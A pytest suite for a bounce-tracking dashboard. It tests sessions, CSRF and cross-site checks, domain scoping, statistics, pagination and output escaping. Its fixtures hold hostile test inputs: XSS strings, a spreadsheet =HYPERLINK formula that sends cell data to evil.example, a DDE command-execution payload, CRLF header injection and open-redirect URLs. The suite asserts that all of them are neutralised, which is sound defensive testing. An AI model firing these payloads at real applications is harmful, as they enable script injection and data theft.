"""The dashboard (issue 5): sessions, scoping, numbers, escaping, CSRF, replay.

FastAPI's TestClient against an app built on a real SQLite file, filled through the
store's own write path (``record_message``, ``store_report``, ``job_failed``).
"""

from __future__ import annotations

import base64
import html
import json
import re
import time
import uuid
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Any, Iterator

import pytest
from fastapi.testclient import TestClient

from bouncetrack.api.app import create_app
from bouncetrack.api.dashboard import build_chart, parse_period, safe_next
from bouncetrack.api.session import SessionManager
from bouncetrack.core.config import Config
from bouncetrack.core.config_loader import load_config
from bouncetrack.store.base import BounceEvent, MessageRecord, OutboxJob, RecipientRecord
from bouncetrack.store.views import DailyCount, EventQuery
from bouncetrack.store.sqlite import SQLiteStore
from bouncetrack.core.tokens import hash_api_token, load_keyring

TOKEN_A = "bt_token-for-a-" + "x" * 20
TOKEN_B = "bt_token-for-b-" + "y" * 20
TOKEN_AC = "bt_token-for-a-and-c-" + "z" * 20

TODAY = datetime.now(timezone.utc).replace(hour=0, minute=0, second=0, microsecond=0)
T_TODAY = TODAY.timestamp() + 60
T_YESTERDAY = (TODAY - timedelta(days=1)).timestamp() + 3600
T_OLD = (TODAY - timedelta(days=40)).timestamp()

XSS_DIAG = (
    '<script>alert("diag")</script> =HYPERLINK("http://evil.example/?x="&A1,"click") '
    '"><img src=x onerror=alert(2)>\r\nSet-Cookie: evil=1'
)
XSS_RECIPIENT = '"<b onmouseover=alert(3)>x</b>"@remote.test'
XSS_RAW = b"Subject: bounce\r\n\r\n</pre><script>alert('raw')</script>\r\n=cmd|' /C calc'!A0\r\n"


def write_config(tmp_path: Path, *, with_b_token: bool = True) -> Config:
    b_tokens = f'["{hash_api_token(TOKEN_B)}"]' if with_b_token else "[]"
    path = tmp_path / "bt.yaml"
    path.write_text(
        f"""
bounce_domain: bounce.test
secret_file: {tmp_path}/verp.key
store: sqlite:///{tmp_path}/bt.db
milter_socket: {tmp_path}/milter.sock
domains:
  a.test:
    tracking: true
    webhook:
      url: http://127.0.0.1:9/hook
      secret: whsec_dGVzdHNlY3JldHRlc3RzZWNyZXQ=
    api_tokens: ["{hash_api_token(TOKEN_A)}", "{hash_api_token(TOKEN_AC)}"]
  b.test:
    tracking: true
    webhook:
      url: http://127.0.0.1:9/hook
      secret: whsec_dGVzdHNlY3JldHRlc3RzZWNyZXQ=
    api_tokens: {b_tokens}
  c.test:
    tracking: true
    api_tokens: ["{hash_api_token(TOKEN_AC)}"]
"""
    )
    config = load_config(path)
    load_keyring(config)  # creates the secret file the session key derives from
    return config


def make_event(domain: str, recipient: str, received_at: float, **kw: Any) -> BounceEvent:
    values: dict[str, Any] = dict(
        event_id=uuid.uuid4().hex,
        type="bounce",
        hard=True,
        reason="userunknown",
        status="5.1.1",
        reply_code="550",
        diagnostic="smtp; 550 5.1.1 user unknown",
        recipient=recipient,
        reported_recipient=recipient,
        action="failed",
        remote_mta="dns; mx.remote.test",
        domain=domain,
        original_sender=f"info@{domain}",
        original_message_id=f"<{uuid.uuid4().hex}@{domain}>",
        token="aebagbafaydqqcikbmgq2dq4",
        token_status="valid",
        flagged=False,
        message_pk=None,
        received_at=received_at,
        dedupe_key=uuid.uuid4().hex,
    )
    values.update(kw)
    return BounceEvent(**values)


def put(store: SQLiteStore, event: BounceEvent, raw: bytes = b"Subject: bounce\r\n\r\nraw report\r\n", job: bool = False) -> None:
    jobs = [OutboxJob(event.event_id, "webhook", "http://127.0.0.1:9/hook", next_attempt_at=event.received_at,
                      created_at=event.received_at, updated_at=event.received_at)] if job else []
    store.store_report([event], raw, jobs, event.dedupe_key)


def record(store: SQLiteStore, domain: str, rcpts: list[str], created_at: float) -> None:
    token_id = uuid.uuid4().int >> 66
    store.record_message(MessageRecord(
        token_id=token_id, token=f"tok{token_id}", queue_id=None, message_id=None, sender_domain=domain,
        envelope_sender=f"info@{domain}", verp_sender=f"b+tok{token_id}@bounce.test", dsn_ret=None, dsn_envid=None,
        recipients=tuple(RecipientRecord(r, f"rfc822;{r}", None) for r in rcpts), created_at=created_at,
    ))


@pytest.fixture
def config(tmp_path: Path) -> Config:
    return write_config(tmp_path)


@pytest.fixture
def store(config: Config) -> Iterator[SQLiteStore]:
    s = SQLiteStore.from_url(config.store_url)
    yield s
    s.close()


@pytest.fixture
def seeded(store: SQLiteStore) -> dict[str, Any]:
    """A known set: a.test sent 10 messages (11 recipients) and got 4 bounces, 1 delay, 1 complaint."""
    for i in range(9):
        record(store, "a.test", [f"r{i}@remote.test"], T_TODAY)
    record(store, "a.test", ["x1@remote.test", "x2@other.test"], T_YESTERDAY)
    record(store, "a.test", ["old@remote.test"], T_OLD)  # outside the last 30 days
    record(store, "b.test", ["b1@remote.test"], T_TODAY)
    events = {
        "hard1": make_event("a.test", "unknown-1@remote.test", T_TODAY),
        "hard2": make_event("a.test", "unknown-2@remote.test", T_TODAY),
        "hard3": make_event("a.test", "gone@other.test", T_YESTERDAY, reason="hostunknown", status="5.1.2"),
        "soft": make_event("a.test", "full@remote.test", T_YESTERDAY, hard=False, reason="mailboxfull", status="4.2.2",
                           queue_id="4QsoftQ1d"),
        "delay": make_event("a.test", "slow@remote.test", T_TODAY, type="delay", hard=False, reason="expired",
                            status="4.4.1", action="delayed"),
        "complaint": make_event("a.test", "angry@remote.test", T_TODAY, type="complaint", hard=False,
                                reason="feedback", feedback_type="abuse", status=None),
        "delivered": make_event("a.test", "ok@remote.test", T_TODAY, type="delivered", hard=False, reason="delivered"),
        "old": make_event("a.test", "old@remote.test", T_OLD),
        "b1": make_event("b.test", "b-unknown@remote.test", T_TODAY),
        "b2": make_event("b.test", "b-other@remote.test", T_TODAY),
    }
    for name, e in events.items():
        put(store, e, job=name in ("hard1", "b1"))
    return events


@pytest.fixture
def app_client(config: Config) -> Iterator[TestClient]:
    with TestClient(create_app(config), follow_redirects=False) as client:
        yield client


def login(client: TestClient, token: str = TOKEN_A, next: str = "") -> Any:
    return client.post("/login", data={"token": token, "next": next})


def csrf_of(page: str) -> str:
    m = re.search(r'name="csrf" value="([^"]+)"', page)
    assert m, "no CSRF field on the page"
    return m.group(1)


def stat(page: str, element_id: str) -> str:
    m = re.search(rf'id="{element_id}">(?:<h2>[^<]*</h2><p class="big">)?([^<]*)<', page)
    assert m, f"no #{element_id} on the page"
    return m.group(1).strip()


# ------------------------------------------------------------------ login / session


def test_unauthenticated_pages_redirect_to_login(app_client: TestClient) -> None:
    for path in ("/dashboard", "/events?type=bounce", "/outbox", "/events/abc"):
        r = app_client.get(path)
        assert r.status_code == 303, path
        assert r.headers["location"].startswith("/login?next=")
    r = app_client.get("/events?type=bounce")
    assert r.headers["location"] == "/login?next=%2Fevents%3Ftype%3Dbounce"
    assert app_client.post("/outbox/1/replay", data={"csrf": "x"}).status_code == 303


def test_login_sets_a_signed_httponly_samesite_cookie_without_the_token(app_client: TestClient) -> None:
    page = app_client.get("/login")
    assert page.status_code == 200 and 'name="token"' in page.text
    r = login(app_client, next="/events")
    assert r.status_code == 303 and r.headers["location"] == "/events"
    cookie = r.headers["set-cookie"]
    assert cookie.startswith("bt_session=")
    flags = [f.strip().lower() for f in cookie.split(";")]
    assert "httponly" in flags and "samesite=lax" in flags and "path=/" in flags
    assert any(f.startswith("max-age=") for f in flags)
    assert "secure" not in flags  # plain http here; see the https test
    value = cookie.split(";")[0].split("=", 1)[1].strip('"')
    body = value.split(".")[0]
    payload = json.loads(base64.urlsafe_b64decode(body + "=" * (-len(body) % 4)))
    assert payload["d"] == ["a.test"]
    assert TOKEN_A not in cookie and TOKEN_A not in json.dumps(payload)
    assert app_client.get("/dashboard").status_code == 200
    # Logged in: the login form sends you on.
    assert app_client.get("/login").status_code == 303


def test_cookie_is_secure_over_https_and_when_forced(config: Config, monkeypatch: pytest.MonkeyPatch) -> None:
    with TestClient(create_app(config), base_url="https://testserver", follow_redirects=False) as c:
        assert "secure" in [f.strip().lower() for f in login(c).headers["set-cookie"].split(";")]
    monkeypatch.setenv("BOUNCETRACK_COOKIE_SECURE", "1")
    with TestClient(create_app(config), follow_redirects=False) as c:
        assert "secure" in [f.strip().lower() for f in login(c).headers["set-cookie"].split(";")]


def test_wrong_token_is_refused(app_client: TestClient) -> None:
    for token in ("", "nope", TOKEN_A + "x", hash_api_token(TOKEN_A)):
        r = login(app_client, token)
        assert r.status_code == 401 and "not valid" in r.text
        assert "set-cookie" not in r.headers
    assert app_client.get("/dashboard").status_code == 303


def test_tampered_or_foreign_cookie_is_refused(app_client: TestClient) -> None:
    login(app_client)
    value = app_client.cookies["bt_session"].strip('"')
    body, mac = value.split(".")
    payload = json.loads(base64.urlsafe_b64decode(body + "=" * (-len(body) % 4)))
    payload["d"] = ["a.test", "b.test"]
    forged = base64.urlsafe_b64encode(json.dumps(payload).encode()).rstrip(b"=").decode() + "." + mac
    app_client.cookies.clear()
    app_client.cookies.set("bt_session", forged)
    assert app_client.get("/dashboard").status_code == 303
    other = SessionManager(b"k" * 32).issue(("a.test",), hash_api_token(TOKEN_A))[0]  # another key
    app_client.cookies.set("bt_session", other)
    assert app_client.get("/dashboard").status_code == 303


def test_session_expires_and_follows_the_config(tmp_path: Path, config: Config) -> None:
    manager = SessionManager(b"s" * 32, lifetime_seconds=60)
    value, session = manager.issue(("a.test", "c.test"), hash_api_token(TOKEN_AC), now=1000.0)
    assert manager.verify(value, config, now=1059.0) == session
    assert manager.verify(value, config, now=1060.0) is None  # expired
    # Token removed from the config: its sessions end.
    value_b, _ = manager.issue(("b.test",), hash_api_token(TOKEN_B), now=1000.0)
    assert manager.verify(value_b, config, now=1001.0) is not None
    assert manager.verify(value_b, write_config(tmp_path, with_b_token=False), now=1001.0) is None


def test_logout_needs_csrf_and_clears_the_cookie(app_client: TestClient) -> None:
    login(app_client)
    page = app_client.get("/dashboard").text
    assert app_client.post("/logout", data={"csrf": "wrong"}).status_code == 403
    assert app_client.get("/dashboard").status_code == 200
    r = app_client.post("/logout", data={"csrf": csrf_of(page)})
    assert r.status_code == 303 and r.headers["location"] == "/login"
    assert 'bt_session=""' in r.headers["set-cookie"] or "max-age=0" in r.headers["set-cookie"].lower()
    assert app_client.get("/dashboard").status_code == 303


def test_next_is_never_an_open_redirect_nor_a_header_injection(app_client: TestClient) -> None:
    for bad in ("//evil.example/", "https://evil.example/", "/\\evil.example", "/dashboard\r\nSet-Cookie: x=1", "/login"):
        assert safe_next(bad) == "/dashboard"
        app_client.cookies.clear()
        r = login(app_client, next=bad)
        assert r.headers["location"] == "/dashboard"
        assert "x=1" not in r.headers.get("set-cookie", "")
    assert safe_next("/events?type=bounce") == "/events?type=bounce"


CROSS_SITE = (
    {"Sec-Fetch-Site": "cross-site"},
    {"Sec-Fetch-Site": "same-site"},  # a sibling subdomain may belong to someone else
    {"Origin": "https://evil.example"},
    {"Origin": "null"},  # sandboxed frame, data: URL
    {"Origin": "http://testserver.evil.example"},
    # no proxy configured (api.behind_proxy): anybody could send X-Forwarded-Host (issue 16)
    {"Origin": "https://dash.example", "X-Forwarded-Host": "dash.example"},
)
SAME_SITE: tuple[dict[str, str], ...] = (
    {},  # curl, scripts: not a victim's browser
    {"Sec-Fetch-Site": "same-origin"},
    {"Origin": "http://testserver"},
    {"Origin": "https://testserver"},  # TLS ended at a proxy: the scheme differs
)


def test_cross_site_posts_are_refused(app_client: TestClient, store: SQLiteStore, seeded: dict[str, Any]) -> None:
    """Login CSRF (a page elsewhere signs the victim in with the attacker's token) and the
    other POSTs are refused on the browser's Fetch Metadata / Origin headers."""
    for headers in CROSS_SITE:
        app_client.cookies.clear()
        r = app_client.post("/login", data={"token": TOKEN_A}, headers=headers)
        assert r.status_code == 403, headers
        assert "set-cookie" not in r.headers and "another site" in r.text
    for headers in SAME_SITE:
        app_client.cookies.clear()
        r = app_client.post("/login", data={"token": TOKEN_A}, headers=headers)
        assert r.status_code == 303 and "bt_session=" in r.headers["set-cookie"], headers
    mine = dead_job(store, seeded["hard1"])
    csrf = csrf_of(app_client.get("/outbox").text)
    hostile = {"Sec-Fetch-Site": "cross-site"}
    assert app_client.post(f"/outbox/{mine}/replay", data={"csrf": csrf}, headers=hostile).status_code == 403
    assert next(j.state for j in store.jobs() if j.id == mine) == "dead"
    assert app_client.post("/logout", data={"csrf": csrf}, headers=hostile).status_code == 403
    assert app_client.get("/dashboard").status_code == 200  # still signed in
    r = app_client.post("/logout", data={"csrf": csrf}, headers={"Sec-Fetch-Site": "same-origin"})
    assert r.status_code == 303


def test_store_unavailable_is_a_503_page(config: Config) -> None:
    from bouncetrack.store.base import StoreUnavailable

    def down(_config: Config) -> Any:
        raise StoreUnavailable("PostgreSQL at db.example:5432 refused the connection")

    with TestClient(create_app(config, store_factory=down), follow_redirects=False) as client:
        assert login(client).status_code == 303  # login needs the config only
        for path in ("/dashboard", "/events", "/outbox", "/events/abc"):
            r = client.get(path)
            assert r.status_code == 503, path
            assert r.headers["retry-after"] == "5" and "Store unavailable" in r.text
            assert "PostgreSQL" not in r.text  # no internals on the page
            assert r.headers["content-security-policy"].startswith("default-src 'none'")


# ------------------------------------------------------------------ overview


def test_overview_numbers_for_a_known_set(app_client: TestClient, seeded: dict[str, Any]) -> None:
    login(app_client)
    page = app_client.get("/dashboard?domain=a.test&period=7")
    assert page.status_code == 200
    t = page.text
    assert stat(t, "stat-sent") == "10"
    assert "11 recipients" in t
    assert stat(t, "stat-bounced") == "4"
    assert stat(t, "stat-hard") == "3" and stat(t, "stat-soft") == "1"
    assert stat(t, "stat-delayed") == "1"
    assert stat(t, "stat-complaints") == "1"
    assert stat(t, "stat-bounce-rate") == "36.36 %"  # 4 bounces / 11 recipients
    assert stat(t, "stat-complaint-rate") == "9.09 %"  # 1 / 11
    # Chart: one bar per day, today's holds 2 hard + delay + complaint + delivered = 5.
    assert t.count('<g class="bar"') == 7
    assert f'data-day="{TODAY.date().isoformat()}" data-total="5"' in t
    assert f'data-day="{(TODAY - timedelta(days=1)).date().isoformat()}" data-total="2"' in t
    # Top reasons and recipient domains (bounces only).
    reasons = re.findall(r'reason=(\w+)">\1</a></td><td class="n">(\d+)<', t)
    assert reasons == [("userunknown", "2"), ("hostunknown", "1"), ("mailboxfull", "1")]
    top_domains = re.search(r'id="top-domains">(.*?)</table>', t, re.S)
    assert top_domains is not None
    assert re.findall(r">([a-z.]+)</a></td><td class=\"n\">(\d+)<", top_domains.group(1)) == [
        ("remote.test", "3"), ("other.test", "1")]
    # b.test's numbers never leak into a.test's session.
    assert "b-unknown" not in t


def test_overview_periods_and_scope(app_client: TestClient, seeded: dict[str, Any]) -> None:
    login(app_client)
    t30 = app_client.get("/dashboard?period=30").text
    assert t30.count('<g class="bar"') == 30 and stat(t30, "stat-bounced") == "4"
    old_day = datetime.fromtimestamp(T_OLD, timezone.utc).date().isoformat()
    custom = app_client.get(f"/dashboard?period=custom&start={old_day}&end={old_day}").text
    assert stat(custom, "stat-sent") == "1" and stat(custom, "stat-hard") == "1"
    bad = app_client.get("/dashboard?period=custom&start=2024-02-30&end=2024-01-01")
    assert bad.status_code == 400 and "not a valid" in bad.text
    other = app_client.get("/dashboard?domain=b.test")
    assert other.status_code == 400 and "not one of yours" in other.text
    assert stat(other.text, "stat-bounced") == "0"


def test_parse_period_and_chart_layout() -> None:
    today = datetime(2024, 5, 10, tzinfo=timezone.utc).date()
    p, errors = parse_period("7", "", "", today)
    assert (p.first.isoformat(), p.last.isoformat(), errors) == ("2024-05-04", "2024-05-10", [])
    p, errors = parse_period("custom", "2024-05-01", "2024-05-02", today)
    assert (p.key, len(p.days), p.end - p.start) == ("custom", 2, 2 * 86400)
    assert parse_period("custom", "2023-01-01", "2024-05-01", today)[1]  # too long
    chart = build_chart(p.days, [DailyCount("2024-05-01", "bounce", True, 3), DailyCount("2024-05-01", "delay", False, 2),
                                  DailyCount("2024-05-02", "complaint", False, 1)])
    assert [b.total for b in chart.bars] == [5, 1]
    assert chart.max_value == 5
    first = chart.bars[0]
    assert [s.series for s in first.segments] == ["hard", "delay"]
    assert abs(sum(s.height for s in first.segments) - chart.plot_height) < 0.1  # tallest bar fills the plot


# ------------------------------------------------------------------ events


def test_event_list_filters_and_keyset_pages(app_client: TestClient, seeded: dict[str, Any]) -> None:
    login(app_client)
    t = app_client.get("/events").text
    rows = re.findall(r'<a href="/events/([0-9a-f]{32})">', t)
    assert len(rows) == 8  # all of a.test's, none of b.test's
    assert seeded["b1"].event_id not in t
    hard = app_client.get("/events?type=bounce&severity=hard").text
    assert len(re.findall(r'<a href="/events/[0-9a-f]{32}">', hard)) == 4  # 3 recent + the old one
    assert len(re.findall(r'<a href="/events/[0-9a-f]{32}">',
                          app_client.get(f"/events?type=bounce&severity=hard&start={(TODAY - timedelta(days=7)).date()}").text)) == 3
    found = app_client.get("/events?q=UNKNOWN-").text  # case-insensitive substring
    assert seeded["hard1"].event_id in found and seeded["hard2"].event_id in found
    assert seeded["soft"].event_id not in found
    assert seeded["soft"].event_id in app_client.get("/events?reason=mailboxfull").text
    assert app_client.get("/events?type=nonsense").status_code == 400
    assert app_client.get("/events?domain=b.test").status_code == 400
    # Keyset pagination, 3 per page, newest first, no overlap, nothing lost.
    seen: list[str] = []
    url: str | None = "/events?limit=3"
    while url:
        page = app_client.get(url).text
        seen += re.findall(r'<a href="/events/([0-9a-f]{32})">', page)
        m = re.search(r'<a href="(/events\?[^"]*)" rel="next">', page)
        url = html.unescape(m.group(1)) if m else None
    assert seen == rows
    # A new event arriving meanwhile does not shift the older pages.
    page2 = html.unescape(re.search(r'<a href="(/events\?[^"]*)" rel="next">',
                                    app_client.get("/events?limit=3").text).group(1))  # type: ignore[union-attr]
    before = app_client.get(page2).text
    put(SQLiteStore.from_url(str(app_client.app.state.ctx.config.store_url)),  # type: ignore[attr-defined]
        make_event("a.test", "late@remote.test", T_TODAY + 5))
    assert re.findall(r'/events/([0-9a-f]{32})"', app_client.get(page2).text) == re.findall(r'/events/([0-9a-f]{32})"', before)
    newer = re.search(r'<a href="(/events\?[^"]*)" rel="prev">', before)
    assert newer is not None
    back = app_client.get(html.unescape(newer.group(1))).text
    assert re.findall(r'<a href="/events/([0-9a-f]{32})">', back) == rows[:3]


def test_event_page_shows_fields_and_raw_report_scoped(app_client: TestClient, seeded: dict[str, Any]) -> None:
    login(app_client)
    e = seeded["soft"]
    page = app_client.get(f"/events/{e.event_id}")
    assert page.status_code == 200
    for text in (e.event_id, "mailboxfull", "4.2.2", "full@remote.test", "dns; mx.remote.test", "raw report",
                 "4QsoftQ1d"):
        assert text in page.text
    assert "4QsoftQ1d" in app_client.get("/events?reason=mailboxfull").text  # the list's queue id column
    assert app_client.get(f"/events/{seeded['b1'].event_id}").status_code == 404  # another domain's
    assert app_client.get("/events/" + "0" * 32).status_code == 404
    # A token covering a.test and c.test sees a.test's event too.
    app_client.cookies.clear()
    login(app_client, TOKEN_AC)
    assert app_client.get(f"/events/{e.event_id}").status_code == 200
    assert app_client.get(f"/events/{seeded['b1'].event_id}").status_code == 404


def test_raw_report_is_capped(app_client: TestClient, store: SQLiteStore) -> None:
    e = make_event("a.test", "big@remote.test", T_TODAY)
    put(store, e, raw=b"Subject: big\r\n\r\n" + b"A" * 400_000)
    login(app_client)
    page = app_client.get(f"/events/{e.event_id}").text
    assert "truncated" in page and "A" * 300_000 not in page


def test_hostile_fields_are_inert(app_client: TestClient, store: SQLiteStore) -> None:
    e = make_event("a.test", XSS_RECIPIENT, T_TODAY, diagnostic=XSS_DIAG, reason="<i>reason</i>",
                   remote_mta='dns; "><svg onload=alert(4)>')
    put(store, e, raw=XSS_RAW, job=True)
    store.job_failed(1, T_TODAY, "HTTP 500 <script>alert('err')</script>", None)
    login(app_client)
    pages = {
        "list": app_client.get("/events"),
        "event": app_client.get(f"/events/{e.event_id}"),
        "overview": app_client.get("/dashboard"),
        "outbox": app_client.get("/outbox"),
        "filtered": app_client.get("/events", params={"q": '"><script>alert(5)</script>', "reason": "<i>reason</i>"}),
    }
    for name, r in pages.items():
        assert r.status_code in (200,), name
        body = r.text
        for raw in ("<script>alert", "<img src=x", "<b onmouseover", "<svg onload", "<i>reason</i>"):
            assert raw not in body, (name, raw)
        assert "evil=1" not in "".join(f"{k}: {v}" for k, v in r.headers.items()), name
        assert "script-src" not in r.headers["content-security-policy"]  # default-src 'none' covers scripts
        assert r.headers["x-content-type-options"] == "nosniff"
    event_page = pages["event"].text
    assert "&lt;script&gt;alert(&#34;diag&#34;)&lt;/script&gt;" in event_page
    assert "=HYPERLINK(&#34;http://evil.example/?x=&#34;&amp;A1" in event_page
    assert "&lt;/pre&gt;&lt;script&gt;alert(&#39;raw&#39;)" in event_page  # raw report, escaped inside <pre>
    assert event_page.count("</pre>") == 1
    assert "&lt;script&gt;alert(&#39;err&#39;)" in pages["outbox"].text
    assert "&lt;i&gt;reason&lt;/i&gt;" in pages["overview"].text


# ------------------------------------------------------------------ outbox


def dead_job(store: SQLiteStore, event: BounceEvent) -> int:
    (job,) = [j for j in store.jobs() if j.event_id == event.event_id]
    assert job.id is not None
    store.job_failed(job.id, T_TODAY, "HTTP 503", None)
    return job.id


def test_outbox_lists_pending_failed_dead_in_scope(app_client: TestClient, store: SQLiteStore, seeded: dict[str, Any]) -> None:
    dead = dead_job(store, seeded["hard1"])
    dead_job(store, seeded["b1"])
    e = make_event("a.test", "retry@remote.test", T_TODAY)
    put(store, e, job=True)
    (failing,) = [j for j in store.jobs() if j.event_id == e.event_id]
    assert failing.id is not None
    store.job_failed(failing.id, T_TODAY, "connection refused", T_TODAY + 60)
    put(store, make_event("a.test", "fresh@remote.test", T_TODAY), job=True)
    login(app_client)
    t = app_client.get("/outbox").text
    sections = {k: re.search(rf'id="outbox-{k}">(.*?)</section>', t, re.S).group(1) for k in ("dead", "failed", "pending")}  # type: ignore[union-attr]
    assert f'action="/outbox/{dead}/replay"' in sections["dead"]
    assert "retry@remote.test" in sections["failed"] and "connection refused" in sections["failed"]
    assert "fresh@remote.test" in sections["pending"]
    assert "b-unknown" not in t  # b.test's dead job is not shown
    assert t.count("/replay") == 1


def test_replay_checks_csrf_scope_and_state(app_client: TestClient, store: SQLiteStore, seeded: dict[str, Any]) -> None:
    mine = dead_job(store, seeded["hard1"])
    theirs = dead_job(store, seeded["b1"])
    login(app_client)
    csrf = csrf_of(app_client.get("/outbox").text)

    def state(job_id: int) -> str:
        return next(j.state for j in store.jobs() if j.id == job_id)

    assert app_client.post(f"/outbox/{mine}/replay").status_code == 403
    assert app_client.post(f"/outbox/{mine}/replay", data={"csrf": "forged"}).status_code == 403
    assert state(mine) == "dead"
    # Another session's CSRF token is no good either.
    with TestClient(app_client.app, follow_redirects=False) as other:
        login(other, TOKEN_AC)
        assert other.post(f"/outbox/{mine}/replay", data={"csrf": csrf}).status_code == 403
    assert app_client.post(f"/outbox/{theirs}/replay", data={"csrf": csrf}).status_code == 404
    assert app_client.post("/outbox/99999/replay", data={"csrf": csrf}).status_code == 404
    assert state(theirs) == "dead"
    r = app_client.post(f"/outbox/{mine}/replay", data={"csrf": csrf})
    assert r.status_code == 303 and r.headers["location"] == f"/outbox?replayed={mine}"
    job = next(j for j in store.jobs() if j.id == mine)
    assert (job.state, job.attempts) == ("pending", 0) and job.next_attempt_at <= time.time()
    assert f"Job {mine} is pending again" in app_client.get(r.headers["location"]).text
    assert app_client.post(f"/outbox/{mine}/replay", data={"csrf": csrf}).status_code == 409  # no longer dead


# ------------------------------------------------------------------ store queries


def test_store_queries_select_nothing_without_domains(store: SQLiteStore, seeded: dict[str, Any]) -> None:
    assert store.dashboard_sent((), 0, 2e9) == (0, 0)
    assert store.dashboard_daily((), 0, 2e9) == []
    assert store.dashboard_events(EventQuery(domains=())) == []
    assert store.dashboard_jobs((), "pending") == []
    assert store.dashboard_sent(("a.test", "b.test"), 0, 2e9) == (12, 13)
    assert store.dashboard_job_counts(("b.test",))["pending"] == 1


def test_static_assets_are_packaged(app_client: TestClient) -> None:
    r = app_client.get("/dashboard/static/dashboard.css")
    assert r.status_code == 200 and "svg.chart" in r.text
    login(app_client)
    page = app_client.get("/dashboard").text
    assert not re.search(r'(src|href)="(https?:)?//', page)  # nothing from another origin


def test_a_reload_applies_tokens_and_scopes_to_running_sessions(tmp_path: Path) -> None:
    """Issue 15: the API's SIGHUP (ApiContext.apply) takes effect at the next request: a
    token added works, a removed one ends its sessions, a narrowed scope narrows them."""
    config = write_config(tmp_path, with_b_token=False)
    app = create_app(config)
    with TestClient(app, follow_redirects=False) as client:
        assert login(client, TOKEN_B).status_code != 303  # not configured yet
        assert login(client, TOKEN_AC).status_code == 303
        assert 'value="c.test"' in client.get("/events").text
        text = config.path.read_text()
        narrowed = text.replace(f'api_tokens: ["{hash_api_token(TOKEN_AC)}"]', "api_tokens: []")
        narrowed = narrowed.replace("api_tokens: []\n  c.test", f'api_tokens: ["{hash_api_token(TOKEN_B)}"]\n  c.test', 1)
        config.path.write_text(narrowed)
        app.state.ctx.apply(load_config(config.path))
        page = client.get("/events").text
        assert 'value="c.test"' not in page and 'value="a.test"' in page  # scope narrowed in place
        client.cookies.clear()
        assert login(client, TOKEN_B).status_code == 303  # the token added by the reload
